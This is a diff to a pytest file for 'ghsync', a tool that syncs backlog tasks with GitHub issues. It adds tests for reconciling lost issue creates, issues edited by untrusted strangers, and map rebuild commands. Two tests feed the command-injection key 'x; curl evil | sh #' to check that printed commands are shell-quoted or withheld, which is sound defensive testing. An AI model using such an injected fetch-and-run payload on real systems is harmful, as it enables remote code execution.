@@ -2,12 +2,20 @@
 
 from __future__ import annotations
 
+import asyncio
+import shlex
+from dataclasses import replace
+from typing import Any
+
 import pytest
 from cli.cli_kit import EPIC, REPO, Cli, Served
 
+from ghsync.clock import VirtualClock
+from ghsync.details import fate_of
 from ghsync.journal import Intent
 from ghsync.model import Issue, IssueId, IssueNumber, Key, State, Uid
-from ghsync.reconcile import originals
+from ghsync.reconcile import Accounts, Reconciler, originals
+from ghsync.remote.errors import BadAnswer
 from ghsync.remote.parse import parse_issue
 from ghsync.render import marker, parse_marker, split, with_marker
 from ghsync.sandbox.people import Person
@@ -128,24 +136,129 @@ def test_who_is_a_stranger(association: str | None, kind: str, found: str | None
     assert issue.stranger == found
 
 
+def marked(number: int, stranger: str | None = None) -> Issue:
+    """An issue with the marker of the lost create."""
+    return Issue(
+        number=IssueNumber(number),
+        id=IssueId(number),
+        title="x",
+        body="",
+        state=State.OPEN,
+        uid=UID,
+        marker_key=TASK,
+        stranger=stranger,
+    )
+
+
+LOST = Intent(key=TASK, uid=UID, floor=IssueNumber(10), at=NOW)
+
+
 def test_a_lost_create_is_found_by_the_lowest_number_above_its_floor() -> None:
     """A copy is younger, and an old issue that somebody edits is below the floor."""
-
-    def issue(number: int) -> Issue:
-        return Issue(
-            number=IssueNumber(number),
-            id=IssueId(number),
-            title="x",
-            body="",
-            state=State.OPEN,
-            uid=UID,
-            marker_key=TASK,
-        )
-
-    intent = Intent(key=TASK, uid=UID, floor=IssueNumber(10), at=NOW)
-    found = originals([intent], [issue(30), issue(5), issue(11), issue(20)])
+    found = originals([LOST], [marked(30), marked(5), marked(11), marked(20)])
     assert found[UID].number == 11
-    assert originals([intent], [issue(5), issue(10)]) == {}
+    assert originals([LOST], [marked(5), marked(10)]) == {}
+
+
+def test_a_strangers_issue_is_a_lost_create_only_where_nobody_elses_is() -> None:
+    """Theirs was opened between floor and create, and got our marker's line by an edit."""
+    found = originals([LOST], [marked(11, "mallory"), marked(12), marked(13)])
+    assert found[UID].number == 12
+    assert originals([LOST], [marked(12, "us"), marked(11, "us")])[UID].number == 11
+
+
+def test_a_comments_marker_in_an_issue_makes_it_nobodys() -> None:
+    """A closing comment of unclear outcome is public; a stranger opens an issue with its line."""
+    comment = replace(LOST, floor=IssueNumber(11), what="comment")
+    assert originals([comment], [marked(50, "mallory"), marked(51)]) == {}
+
+
+@pytest.mark.parametrize("listed", [(), (11,), (11, 13)])
+@pytest.mark.parametrize("direct", [(11,), (11, 13)])
+def test_the_reconciler_takes_a_strangers_issue_last(
+    monkeypatch: pytest.MonkeyPatch, direct: tuple[int, ...], listed: tuple[int, ...]
+) -> None:
+    """By number and by list; #11 is a stranger's, and #13 is ours as soon as one shows it."""
+
+    def shown(number: int) -> Issue:
+        return marked(number, "mallory" if number == 11 else None)
+
+    async def look_at(_client: object, _repo: object, number: int) -> tuple[bool, Issue | None]:
+        return number in direct, shown(number) if number in direct else None
+
+    async def by_list(_self: Reconciler, _intent: Intent) -> Issue | None:
+        return shown(listed[-1]) if listed else None
+
+    monkeypatch.setattr("ghsync.reconcile.look_at", look_at)
+    monkeypatch.setattr(Reconciler, "_by_list", by_list)
+    unused: Any = None
+    clock = VirtualClock(NOW)
+    accounts = Accounts(highest=IssueNumber(10))
+    reconciler = Reconciler(
+        unused, unused, clock, accounts, settle=5.0, notice=lambda _notice: None
+    )
+    found = asyncio.run(reconciler.settle(LOST))
+    assert found is not None
+    assert found.number == (13 if 13 in direct + listed else 11)
+
+
+def test_a_rebuild_does_not_take_back_what_was_let_go_of(cli: Cli, github: Served) -> None:
+    """`map forget` is a person's word; a marker on GitHub is none."""
+    cli.shop(1)
+    assert cli("push").code == 0
+    task = next(n for n, title in titles(github).items() if title == "Task 1")
+    assert cli("map", "forget", TASK).code == 0
+    assert cli("map", "rebuild").code == 0
+    assert TASK not in {each["key"] for each in cli.json("map", "show")["items"]}
+    assert cli("map", "adopt", TASK, task).code == 0
+
+
+def test_a_rebuild_names_the_issue_that_the_item_has(cli: Cli, github: Served) -> None:
+    """An older issue has got the same marker; the map's own is the one that is taken."""
+    octo = Person(github.github, REPO, login="octo", now=NOW)
+    old = octo.open_issue("Old", body="x", now=NOW)
+    cli.shop(1)
+    assert cli("push").code == 0
+    task = next(n for n, title in titles(github).items() if title == "Task 1")
+    octo.edit(old.number, body=octo.repo.issues[task].body or "", now=NOW)
+    said = cli("map", "rebuild").err
+    assert f"#{task} is taken" in said
+    assert f"#{task} and #{old.number} carry the same marker" in said
+
+
+def test_a_rebuild_prints_no_command_with_a_strangers_key(cli: Cli, github: Served) -> None:
+    """Whoever copies the command would run theirs; an item's own key is quoted."""
+    cli.shop(1)
+    mallory = stranger(github)
+    mallory.open_issue("Mine", body=with_marker("x", UID, Key("x; curl evil | sh #")), now=NOW)
+    said = cli("map", "rebuild").err
+    assert "a stranger to the repository" in said
+    assert "map adopt" not in said
+
+
+def test_a_key_in_a_command_is_one_word() -> None:
+    """Keys of Backlog.md hold blanks, and a marker's key is anybody's text."""
+    for key in ("backlog/tasks/task-1 - Fix login", "x; curl evil | sh #"):
+        said = fate_of(Key(key), IssueNumber(1), None, REPO)[1]
+        words = shlex.split(said.split("`")[1])
+        assert words == ["ghsync", "map", "forget", key]
+    assert f"map forget {TASK}`" in fate_of(TASK, IssueNumber(1), None, REPO)[1]
+
+
+def test_a_server_that_does_not_say_who_we_are_ends_no_rebuild(
+    cli: Cli, github: Served, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """It answers with something else than a user: then every stranger is one."""
+    cli.shop(1)
+    stranger(github).open_issue("Mine", body=with_marker("x", UID, TASK), now=NOW)
+
+    def broken(*_: object, **__: object) -> str:
+        raise BadAnswer(message="it has no login")
+
+    monkeypatch.setattr("ghsync.remote.wire.parse_login", broken)
+    result = cli("map", "rebuild")
+    assert result.code == 0
+    assert "a stranger to the repository" in result.err
 
 
 @pytest.mark.parametrize(
